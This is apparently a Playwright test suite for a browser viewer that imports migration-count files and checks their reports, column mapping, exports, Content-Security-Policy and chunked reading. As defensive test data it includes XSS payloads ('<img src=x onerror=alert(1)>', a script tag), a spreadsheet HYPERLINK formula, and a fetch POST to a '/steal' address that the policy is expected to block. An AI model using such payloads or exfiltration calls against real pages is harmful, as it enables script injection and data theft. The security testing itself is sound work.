/**
 * The analyst's viewer in real Chromium (issue 7): each sample file of data/samples/ dropped or
 * chosen gives the report the library gives in Node and the replay switches to it; a malformed or
 * unusable file shows its report and keeps the previous data; the markup-in-a-place-name file
 * runs nothing; a column mapping is fixed and re-imported; PNG, SVG, CSV, GeoJSON and WebM
 * exports open; the built site works under its stricter Content-Security-Policy; a 100 MB file is
 * read in chunks with progress. No request leaves the page's origin during any of it.
 * Screenshots go to build/screenshots/analyst-*.png.
 */
import {
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
  openSync,
  writeSync,
  closeSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import type { Browser, Download, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  createGazetteer,
  embedded2018,
  EMBEDDED_2018_NAME,
  importTable,
  runReplay,
} from "../../src/index.ts";
import { BUILD_CSP } from "../../viewer/analyst/csp.ts";
import { assembleDataset, fileStatus } from "../../viewer/analyst/workspace.ts";
import { prepareReplay } from "../../viewer/data/prepare.ts";
import { replayInput } from "../../viewer/data/embedded.ts";
import {
  SHOTS,
  serveBuiltViewer,
  hasBrowser,
  launchBrowser,
  settle,
  useViewerSession,
  waitFor2018,
  watchPage,
} from "./harness.ts";
import type { BuiltSite } from "./harness.ts";

const SAMPLES = resolve("data/samples");
const base = embedded2018();
const gazetteer = createGazetteer(base.places);

const TABLE_SAMPLES = [
  "kobo-conteo-tecun-uman.csv",
  "excel-conteo-windows1252.csv",
  "conteo-por-punto.xlsx",
  "avistamientos-rangos.csv",
  "dtm-largo-sexo-edad.tsv",
  "cifras-stock.csv",
  "malformado.csv",
  "sin-columna-fecha.csv",
  "avistamiento-nombre-html.csv",
];

/** What the library gives in Node for one sample: its report, status and (when used) replay. */
function expected(name: string) {
  const r = importTable(new Uint8Array(readFileSync(join(SAMPLES, name))), {
    fileName: name,
    gazetteer,
  });
  const status = fileStatus(r.report);
  const file = { id: "x", name, kind: r.kind, records: r.records, report: r.report, forced: false };
  const dataset = assembleDataset([file], base);
  let replay;
  if (dataset) {
    // The library's replay, as the analyst worker runs it (runReplay), without the 2018 figures.
    replay = prepareReplay(replayInput(runReplay(dataset)));
  }
  return { report: r.report, kind: r.kind, status, replay };
}

interface PageReplay {
  name: string;
  start: string;
  days: number;
  groups: string[];
  flows: string[];
  headlines: number;
}

const pageReplay = (page: Page) =>
  page.evaluate(() => {
    const r = (
      window as unknown as {
        dtmViewer: {
          replay: {
            name: string;
            start: string;
            days: number;
            groups: { id: string }[];
            flows: { id: string }[];
            headlines: unknown[];
          };
        };
      }
    ).dtmViewer.replay;
    return {
      name: r.name,
      start: r.start,
      days: r.days,
      groups: r.groups.map((g) => g.id),
      flows: r.flows.map((f) => f.id),
      headlines: r.headlines.length,
    } satisfies PageReplay;
  });

async function open(page: Page, url: string): Promise<void> {
  await page.goto(url);
  await waitFor2018(page);
}

const choose = (page: Page, path: string | string[]) =>
  settle(page, () => page.setInputFiles("#analyst-input", path));

/** Drops a file on the page the way a file manager does (a DataTransfer with a File). */
async function drop(page: Page, name: string, bytes: Uint8Array): Promise<void> {
  await settle(page, () =>
    page.evaluate(
      ({ name, data }) => {
        const file = new File([Uint8Array.from(atob(data), (c) => c.charCodeAt(0))], name);
        const dt = new DataTransfer();
        dt.items.add(file);
        const target = document.querySelector("#map")!;
        for (const type of ["dragenter", "dragover", "drop"])
          target.dispatchEvent(
            new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }),
          );
      },
      { name, data: Buffer.from(bytes).toString("base64") },
    ),
  );
}

async function backTo2018(page: Page): Promise<void> {
  if (await page.locator("#analyst-reset").isDisabled()) return;
  await settle(page, () => page.click("#analyst-reset"));
  await waitFor2018(page);
}

/** Unfolds the table exports (folded by default to keep the panel short). */
const openTables = (page: Page) =>
  page.evaluate(
    () => ((document.querySelector("#export-tables") as HTMLDetailsElement).open = true),
  );

async function saved(download: Download): Promise<Buffer> {
  const path = await download.path();
  return readFileSync(path!);
}

describe.skipIf(!hasBrowser)("the analyst's viewer in Chromium", () => {
  const viewer = useViewerSession();
  let page: Page;
  let watch: ReturnType<typeof watchPage>;
  const dialogs: string[] = [];

  beforeAll(async () => {
    page = await viewer.browser.newPage({
      viewport: { width: 1400, height: 1000 },
      locale: "en-GB",
      acceptDownloads: true,
    });
    watch = watchPage(page, viewer.url);
    page.on("dialog", (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await open(page, viewer.url);
  });

  for (const name of TABLE_SAMPLES) {
    it(`${name}: the report shown is the library's, and the replay switches to the file only when it is usable`, async () => {
      await backTo2018(page);
      const exp = expected(name);
      if (name.endsWith(".tsv")) await drop(page, name, readFileSync(join(SAMPLES, name)));
      else await choose(page, join(SAMPLES, name));
      const item = page.locator("#analyst-files li").last();
      expect(await item.getAttribute("data-status")).toBe(exp.status);
      expect(await item.getAttribute("data-kind")).toBe(exp.kind ?? "");
      expect(Number(await item.getAttribute("data-accepted"))).toBe(exp.report.accepted);
      expect(Number(await item.getAttribute("data-rejected"))).toBe(exp.report.rejected);
      expect(Number(await item.getAttribute("data-warnings"))).toBe(exp.report.warnings.length);
      const rows = await item
        .locator("details.rejections tbody tr")
        .evaluateAll((trs) =>
          trs.map((tr) => [Number(tr.getAttribute("data-line")), tr.getAttribute("data-code")]),
        );
      expect(rows).toEqual(exp.report.rejections.map((r) => [r.line, r.code]));
      // The column mapping is shown with each column's field.
      const mapping = await item
        .locator(".mapping-table tbody tr")
        .evaluateAll((trs) =>
          trs.map((tr) => [tr.querySelector("td")!.textContent, tr.querySelector("select")!.value]),
        );
      expect(mapping).toEqual(exp.report.columns.map((c) => [c.column, c.field ?? ""]));
      const shown = await pageReplay(page);
      if (exp.status === "used") {
        const r = exp.replay!;
        expect(shown).toEqual({
          name: r.name,
          start: r.start,
          days: r.days,
          groups: r.groups.map((g) => g.id),
          flows: r.flows.map((f) => f.id),
          headlines: r.headlines.length,
        });
        expect(await page.locator("#map").getAttribute("data-provider")).toBe("analyst-files");
      } else {
        // Held or unusable: the previous data (here the 2018 replay) stays.
        expect(shown.name).toBe(EMBEDDED_2018_NAME);
        expect(await page.locator("#map").getAttribute("data-provider")).toBe("embedded-2018");
      }
      await page.screenshot({ path: join(SHOTS, `analyst-${name.replace(/\W+/g, "-")}.png`) });
    });
  }

  it("a malformed file dropped over the analyst's data shows its lines and reasons and keeps that data; 'use anyway' then uses it", async () => {
    await backTo2018(page);
    await choose(page, join(SAMPLES, "avistamientos-rangos.csv"));
    const before = await pageReplay(page);
    expect(before.name).toBe("avistamientos-rangos.csv");
    await drop(page, "malformado.csv", readFileSync(join(SAMPLES, "malformado.csv")));
    const item = page.locator('#analyst-files li[data-status="held"]');
    expect(
      await item
        .locator("details.rejections tbody tr")
        .evaluateAll((trs) => trs.map((t) => t.getAttribute("data-line"))),
    ).toEqual(["3", "4", "6", "7", "8"]);
    expect(
      await item.locator('details.rejections tr[data-code="invalid_direction"]').count(),
    ).toBeGreaterThan(0);
    expect(await pageReplay(page)).toEqual(before);
    await page.screenshot({ path: join(SHOTS, "analyst-malformed-held.png") });
    await settle(page, () => item.locator("button.force").click());
    expect((await pageReplay(page)).name).toBe("avistamientos-rangos.csv, malformado.csv");
    // An unusable file (a required column missing) changes nothing either.
    const now = await pageReplay(page);
    await choose(page, join(SAMPLES, "sin-columna-fecha.csv"));
    const bad = page.locator('#analyst-files li[data-status="unusable"]');
    expect(await bad.locator(".fatal").getAttribute("data-code")).toBe("missing_column");
    expect(await bad.locator(".fatal").innerText()).not.toContain("missing_column");
    expect(await pageReplay(page)).toEqual(now);
  });

  it("fixing a column's mapping and re-importing makes an unusable file usable", async () => {
    await backTo2018(page);
    const text =
      "fecha;codigo_xyz;direccion;total\n20/10/2018;GT-TEC;norte;120\n21/10/2018;GT-TEC;norte;80\n";
    await drop(page, "conteo-sin-punto.csv", new TextEncoder().encode(text));
    const item = page.locator("#analyst-files li").last();
    expect(await item.getAttribute("data-status")).toBe("unusable");
    await item.locator('select[data-column="1"]').selectOption("fmp_id");
    await settle(page, () => item.locator("button.reimport").click());
    const fixed = page.locator("#analyst-files li").last();
    expect(await fixed.getAttribute("data-status")).toBe("used");
    expect(await fixed.getAttribute("data-accepted")).toBe("2");
    // The mapping names the file's own header, now read as fmp_id.
    const row = fixed.locator('.mapping-table tr[data-index="1"]');
    expect(await row.locator("td").first().textContent()).toBe("codigo_xyz");
    expect(await row.locator("select").inputValue()).toBe("fmp_id");
    const shown = await pageReplay(page);
    expect(shown.name).toBe("conteo-sin-punto.csv");
    expect(shown.flows).toEqual(["GT-TEC"]);
    // The corrected sheet dropped again under its name keeps the mapping, by header text.
    await drop(
      page,
      "conteo-sin-punto.csv",
      new TextEncoder().encode(text + "22/10/2018;GT-TEC;norte;40\n"),
    );
    const again = page.locator("#analyst-files li");
    expect(await again.count()).toBe(1);
    expect(await again.last().getAttribute("data-status")).toBe("used");
    expect(await again.last().getAttribute("data-accepted")).toBe("3");
    const kept = again.last().locator('.mapping-table tr[data-index="1"]');
    expect(await kept.locator("select").inputValue()).toBe("fmp_id");
  });

  it("the markup-in-a-place-name file runs nothing: names show as characters, no dialog, no injected element", async () => {
    await backTo2018(page);
    const imgsBefore = await page.locator("img").count();
    await drop(
      page,
      "avistamiento-nombre-html.csv",
      readFileSync(join(SAMPLES, "avistamiento-nombre-html.csv")),
    );
    expect((await pageReplay(page)).groups).toEqual(["<script>alert(2)</script>"]);
    await page.evaluate(() =>
      (window as unknown as { dtmViewer: { setState(p: unknown): void } }).dtmViewer.setState({
        selection: { kind: "group", id: "<script>alert(2)</script>" },
        t: 9.5,
      }),
    );
    await expect
      .poll(() => page.locator("#details").innerText())
      .toContain("<img src=x onerror=alert(1)>");
    expect(await page.locator("img").count()).toBe(imgsBefore);
    expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
    // The exported SVG carries the names as escaped text too.
    const [svgDl] = await Promise.all([page.waitForEvent("download"), page.click("#export-svg")]);
    const svg = (await saved(svgDl)).toString("utf8");
    expect(svg).not.toContain("<script");
    expect(svg).not.toContain("<img");
    await openTables(page);
    const [csvDl] = await Promise.all([
      page.waitForEvent("download"),
      page.click('button[data-table="sightings.csv"]'),
    ]);
    const csv = (await saved(csvDl)).toString("utf8");
    expect(csv).toContain("<img src=x onerror=alert(1)>");
    expect(csv).toContain(`"'=HYPERLINK(""http://example.invalid"")"`);
    await page.screenshot({ path: join(SHOTS, "analyst-markup.png") });
    expect(dialogs).toEqual([]);
  });

  it("exports the frame as PNG (non-blank) and SVG, the tables as CSV and GeoJSON, and the animation as WebM", async () => {
    await backTo2018(page);
    await page.evaluate(() =>
      (window as unknown as { dtmViewer: { setState(p: unknown): void } }).dtmViewer.setState({
        t: 25.5,
        selection: null,
      }),
    );
    await page.waitForTimeout(300);
    const [pngDl] = await Promise.all([page.waitForEvent("download"), page.click("#export-png")]);
    expect(pngDl.suggestedFilename()).toBe("dtm-flow-2018-11-07.png");
    const png = await saved(pngDl);
    expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const pixels = await page.evaluate(async (b64) => {
      const blob = new Blob([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], {
        type: "image/png",
      });
      const bmp = await createImageBitmap(blob);
      const c = new OffscreenCanvas(bmp.width, bmp.height);
      const ctx = c.getContext("2d")!;
      ctx.drawImage(bmp, 0, 0);
      const d = ctx.getImageData(0, 0, bmp.width, bmp.height).data;
      const colours = new Set<number>();
      for (let i = 0; i < d.length; i += 4 * 97)
        colours.add((d[i]! << 16) | (d[i + 1]! << 8) | d[i + 2]!);
      return { w: bmp.width, h: bmp.height, colours: colours.size };
    }, png.toString("base64"));
    expect(pixels.w).toBeGreaterThan(400);
    expect(pixels.colours).toBeGreaterThan(50);
    writeFileSync(join(SHOTS, "analyst-export.png"), png);

    const [svgDl] = await Promise.all([page.waitForEvent("download"), page.click("#export-svg")]);
    const svg = (await saved(svgDl)).toString("utf8");
    expect(svg.startsWith('<?xml version="1.0" encoding="UTF-8"?>')).toBe(true);
    expect(svg).toContain('href="data:image/png;base64,');
    expect(svg).toContain("7 Nov 2018");
    expect(svg).toMatch(/Sources: [^<]{20,} \(\+\d+ more\) · Basemap: Natural Earth/);
    expect(svg).toContain("group body; dot: median person");
    const parsed = await page.evaluate((text) => {
      const doc = new DOMParser().parseFromString(text, "image/svg+xml");
      return {
        error: doc.querySelector("parsererror") !== null,
        root: doc.documentElement.nodeName,
      };
    }, svg);
    expect(parsed).toEqual({ error: false, root: "svg" });

    await openTables(page);
    for (const [table, check] of [
      [
        "tracks.csv",
        (t: string) =>
          t.startsWith(
            "\ufeffgroup,date,route_id,km,km_low,km_high,lat,lon,size,size_low,size_high,head_km,",
          ),
      ],
      [
        "split.csv",
        (t: string) =>
          t.startsWith("\ufeffdate,category,country,place_name,value,value_low,value_high\r\n"),
      ],
      [
        "counts.csv",
        (t: string) =>
          // The importer's HXL row whatever the box says, as `dtm-flow import` writes it.
          t.startsWith("\ufeffdate,fmp_id,") && t.split("\r\n")[1]!.startsWith("#date"),
      ],
    ] as const) {
      const [dl] = await Promise.all([
        page.waitForEvent("download", { timeout: 60_000 }),
        page.click(`button[data-table="${table}"]`),
      ]);
      const text = (await saved(dl)).toString("utf8");
      expect(check(text), table).toBe(true);
      // Every day of the replay, named so (not by the day shown).
      expect(dl.suggestedFilename()).toMatch(
        new RegExp(
          `^dtm-flow-\\d{4}-\\d\\d-\\d\\d-to-\\d{4}-\\d\\d-\\d\\d-${table.replace(".", "\\.")}$`,
        ),
      );
      expect(text.split("\r\n").length, table).toBeGreaterThan(table === "counts.csv" ? 3 : 10);
    }
    for (const table of ["tracks.geojson", "places.geojson"]) {
      const [dl] = await Promise.all([
        page.waitForEvent("download"),
        page.click(`button[data-table="${table}"]`),
      ]);
      const json = JSON.parse((await saved(dl)).toString("utf8")) as {
        type: string;
        features: unknown[];
      };
      expect(json.type).toBe("FeatureCollection");
      expect(json.features.length).toBeGreaterThan(5);
    }

    await page.evaluate(() =>
      (window as unknown as { dtmViewer: { setState(p: unknown): void } }).dtmViewer.setState({
        t: 5,
        speed: 8,
      }),
    );
    const [webmDl] = await Promise.all([
      page.waitForEvent("download", { timeout: 60_000 }),
      page.evaluate(() =>
        (window as unknown as { dtmAnalyst: { record(o: unknown): Promise<Blob> } }).dtmAnalyst
          .record({ maxSeconds: 3 })
          .then((b) => b.size),
      ),
    ]);
    expect(webmDl.suggestedFilename()).toMatch(/^dtm-flow-2018-\d\d-\d\d\.webm$/);
    const webm = await saved(webmDl);
    expect(webm.length).toBeGreaterThan(20_000);
    expect([...webm.subarray(0, 4)]).toEqual([0x1a, 0x45, 0xdf, 0xa3]); // EBML
    expect(webm.subarray(0, 64).toString("latin1")).toContain("webm");
    const video = await page.evaluate(async (b64) => {
      const blob = new Blob([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], {
        type: "video/webm",
      });
      const v = document.createElement("video");
      v.muted = true;
      v.src = URL.createObjectURL(blob);
      await new Promise((ok, ko) => {
        v.onloadedmetadata = ok;
        v.onerror = () => ko(new Error("video error"));
      });
      return { w: v.videoWidth, h: v.videoHeight };
    }, webm.toString("base64"));
    expect(video.w).toBe(pixels.w);
    expect(video.h).toBe(pixels.h);
    // The replay played while recording: the date moved on.
    const t = await page.evaluate(
      () =>
        (window as unknown as { dtmViewer: { getState(): { t: number } } }).dtmViewer.getState().t,
    );
    expect(t).toBeGreaterThan(10);
  });

  it("a places file resolves the names of sightings already dropped; a GeoJSON route replaces the embedded one; a broken route changes nothing", async () => {
    await backTo2018(page);
    const sightings =
      "observed_at,place_name,caravan_label,size_best,source_org\n" +
      "2018-10-21,Tapachula,Grupo de prueba,3000,OIM\n" +
      "2018-10-24,Albergue de prueba,Grupo de prueba,2800,OIM\n";
    await drop(page, "avistamientos-prueba.csv", new TextEncoder().encode(sightings));
    const item = page.locator("#analyst-files li").first();
    expect(await item.getAttribute("data-accepted")).toBe("1");
    expect(await item.locator("details.rejections tr[data-code]").getAttribute("data-code")).toBe(
      "unknown_place",
    );
    const places =
      "place_id,name,country,lat,lon,kind,capacity\n" +
      "MX-PRUEBA,Albergue de prueba,MEX,15.2,-92.6,shelter,500\n";
    await drop(page, "lugares.csv", new TextEncoder().encode(places));
    // The sightings were read again against the new place: both rows are accepted now.
    expect(await item.getAttribute("data-accepted")).toBe("2");
    const shown = await page.evaluate(() => {
      const r = (
        window as unknown as {
          dtmViewer: {
            replay: { name: string; places: { name: string }[]; groups: { id: string }[] };
          };
        }
      ).dtmViewer.replay;
      return { name: r.name, place: r.places[0]!.name, groups: r.groups.map((g) => g.id) };
    });
    expect(shown).toEqual({
      name: "avistamientos-prueba.csv, lugares.csv",
      place: "Albergue de prueba",
      groups: ["Grupo de prueba"],
    });
    const route = { type: "FeatureCollection", features: [base.routes.features[0]] };
    await drop(page, "ruta.geojson", new TextEncoder().encode(JSON.stringify(route)));
    const routeItem = page.locator('#analyst-files li[data-kind="route"]');
    expect(await routeItem.getAttribute("data-status")).toBe("used");
    const routes = () =>
      page.evaluate(() =>
        (
          window as unknown as {
            dtmViewer: { replay: { routes: { features: { properties: { route_id: string } }[] } } };
          }
        ).dtmViewer.replay.routes.features.map((f) => f.properties.route_id),
      );
    expect(await routes()).toEqual(["main"]);
    await drop(
      page,
      "ruta-rota.geojson",
      new TextEncoder().encode('{"type": "FeatureCollection", "features": ['),
    );
    const broken = page.locator("#analyst-files li").last();
    expect(await broken.getAttribute("data-status")).toBe("unusable");
    expect(await broken.locator(".fatal").getAttribute("data-code")).toBe("invalid_json");
    expect(await routes()).toEqual(["main"]);
    await page.screenshot({ path: join(SHOTS, "analyst-places-route.png") });
  });

  it("files chosen while the 2018 estimate is still running win over it; the button returns to 2018", async () => {
    const p = await viewer.browser.newPage({ viewport: { width: 1300, height: 900 } });
    const w = watchPage(p, viewer.url);
    await p.goto(viewer.url);
    await p.waitForSelector("#analyst");
    // No wait for the 2018 estimate: the file's replay must not be overwritten when it ends.
    await settle(p, () =>
      p.setInputFiles("#analyst-input", join(SAMPLES, "avistamientos-rangos.csv")),
    );
    await p.waitForTimeout(1500);
    expect((await pageReplay(p)).name).toBe("avistamientos-rangos.csv");
    expect(await p.locator("#map").getAttribute("data-provider")).toBe("analyst-files");
    await settle(p, () => p.click("#analyst-reset"));
    await p.waitForSelector('#map[data-provider="embedded-2018"][data-tracks="estimate"]');
    expect((await pageReplay(p)).name).toBe(EMBEDDED_2018_NAME);
    expect(await p.locator("#analyst-files li").count()).toBe(0);
    expect(await p.locator("#analyst-reset").isDisabled()).toBe(true);
    expect(await p.locator("#analyst").getAttribute("data-showing")).toBe("2018");
    expect(w.errors).toEqual([]);
    expect(w.foreignRequests).toEqual([]);
    await p.close();
  });

  it("no request left the page's origin and no script error happened during all of the above", () => {
    expect(watch.foreignRequests).toEqual([]);
    expect(watch.errors).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it("the Content-Security-Policy blocks inline scripts and connections to other hosts", async () => {
    const p = await viewer.browser.newPage();
    await p.goto(viewer.url);
    await p.waitForSelector("#analyst");
    const result = await p.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violations.push(e.violatedDirective),
      );
      const s = document.createElement("script");
      s.textContent = "window.__ran = 1";
      document.head.append(s);
      let fetched = true;
      try {
        await fetch("http://198.51.100.7/steal", { method: "POST", body: "x" });
      } catch {
        fetched = false;
      }
      await new Promise((r) => setTimeout(r, 100));
      return { ran: (window as unknown as { __ran?: number }).__ran, fetched, violations };
    });
    expect(result.ran).toBeUndefined();
    expect(result.fetched).toBe(false);
    expect(result.violations).toEqual(expect.arrayContaining(["script-src-elem", "connect-src"]));
    await p.close();
  });
});

describe.skipIf(!hasBrowser)("the built site with its Content-Security-Policy", () => {
  let site: BuiltSite;
  let browser: Browser;

  beforeAll(async () => {
    site = await serveBuiltViewer();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    await site?.close();
  });

  it("carries the strict policy, loads, imports a file in its worker and exports, with no error and no foreign request", async () => {
    const html = readFileSync(join(site.out, "index.html"), "utf8");
    expect(html).toContain(`content="${BUILD_CSP}"`);
    const page = await browser.newPage({
      viewport: { width: 1300, height: 900 },
      acceptDownloads: true,
    });
    const watch = watchPage(page, site.url);
    await open(page, site.url);
    await choose(page, join(SAMPLES, "kobo-conteo-tecun-uman.csv"));
    expect(await page.locator("#analyst-files li").last().getAttribute("data-status")).toBe("used");
    expect(await page.locator("#map").getAttribute("data-provider")).toBe("analyst-files");
    const [dl] = await Promise.all([page.waitForEvent("download"), page.click("#export-png")]);
    expect((await saved(dl)).subarray(1, 4).toString("latin1")).toBe("PNG");
    await page.screenshot({ path: join(SHOTS, "analyst-built.png") });
    expect(watch.errors).toEqual([]);
    expect(watch.foreignRequests).toEqual([]);
  });
});

describe.skipIf(!hasBrowser)("a 100 MB count sheet", () => {
  const viewer = useViewerSession();
  let dir: string;
  let path: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "dtm-analyst-big-"));
    path = join(dir, "conteo-grande.csv");
    // ~100 MB of plausible daily counts at two points (synthetic, deterministic).
    const fd = openSync(path, "w");
    writeSync(fd, "date,fmp_id,direction,total,men,women,boys,girls,source_org,notes\n");
    let size = 0;
    let batch: string[] = [];
    for (let i = 0; size < 100 * 1024 * 1024; i++) {
      const day = new Date(Date.UTC(2018, 9, 12 + (i % 60))).toISOString().slice(0, 10);
      const line = `${day},${i % 2 ? "GT-TEC" : "MX-CDH"},${i % 3 ? "northbound" : "southbound"},${(i % 500) + 4},1,1,1,1,OIM,fila sintética ${i} con una nota larga para que la hoja pese lo que pesan las de verdad\n`;
      size += Buffer.byteLength(line);
      batch.push(line);
      if (batch.length === 20_000) {
        writeSync(fd, batch.join(""));
        batch = [];
      }
    }
    writeSync(fd, batch.join(""));
    closeSync(fd);
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("is read in chunks with progress while the page keeps drawing, and gives its full report", async () => {
    const page = await viewer.browser.newPage({ viewport: { width: 1300, height: 900 } });
    const watch = watchPage(page, viewer.url);
    await open(page, viewer.url);
    await page.evaluate(() => {
      const w = window as unknown as { __progress: number[]; __frames: number };
      w.__progress = [];
      w.__frames = 0;
      const bar = document.querySelector("#analyst-progress progress") as HTMLProgressElement;
      new MutationObserver(() => w.__progress.push(bar.value)).observe(bar, { attributes: true });
      const count = () => {
        w.__frames++;
        requestAnimationFrame(count);
      };
      requestAnimationFrame(count);
    });
    await page.setInputFiles("#analyst-input", path);
    await page.waitForSelector('#analyst-files li[data-kind="counts"]', { timeout: 170_000 });
    const got = await page.evaluate(() => {
      const w = window as unknown as { __progress: number[]; __frames: number };
      return { progress: w.__progress, frames: w.__frames };
    });
    const fractions = [...new Set(got.progress.filter((v) => v > 0 && v < 1))];
    expect(fractions.length).toBeGreaterThan(10);
    // The page kept painting while the worker read: far more frames than a frozen tab would give.
    expect(got.frames).toBeGreaterThan(100);
    const item = page.locator('#analyst-files li[data-kind="counts"]');
    expect(Number(await item.getAttribute("data-accepted"))).toBeGreaterThan(700_000);
    expect(await page.evaluate(() => document.title)).toContain("dtm-flow");
    expect(watch.errors).toEqual([]);
    expect(watch.foreignRequests).toEqual([]);
    await page.close();
  });
});
